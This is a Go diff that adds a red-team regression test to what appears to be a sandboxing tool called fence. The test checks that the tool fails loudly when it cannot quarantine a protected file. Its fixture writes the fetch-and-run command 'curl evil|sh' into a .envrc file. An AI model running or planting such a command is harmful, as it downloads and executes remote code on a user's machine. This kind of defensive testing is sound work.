@@ -625,3 +625,21 @@ func TestAttacks(t *testing.T) {
 		})
 	}
 }
+
+// TestQuarantineFailureIsLoud: when a protected path created inside cannot
+// be quarantined (here: no usable state directory), fence must not end
+// quietly with the command's status (red team B15).
+func TestQuarantineFailureIsLoud(t *testing.T) {
+	e := sandboxtest.New(t, writeDot)
+	state := e.Path("~/ro-state")
+	if err := os.MkdirAll(state, 0o500); err != nil {
+		t.Fatal(err)
+	}
+	r := e.RunEnv([]string{"XDG_STATE_HOME=" + state}, "--", "sh", "-c", `echo 'curl evil|sh' > .envrc`)
+	if !e.Exists(".envrc") {
+		t.Fatalf("setup: the quarantine worked after all, the test proves nothing (status %d):\n%s", r.Code, r.Out())
+	}
+	if r.Code == 0 || !strings.Contains(r.Stderr, "could not be quarantined") {
+		t.Errorf("a protected path stayed behind but fence ended with status %d:\n%s", r.Code, r.Out())
+	}
+}
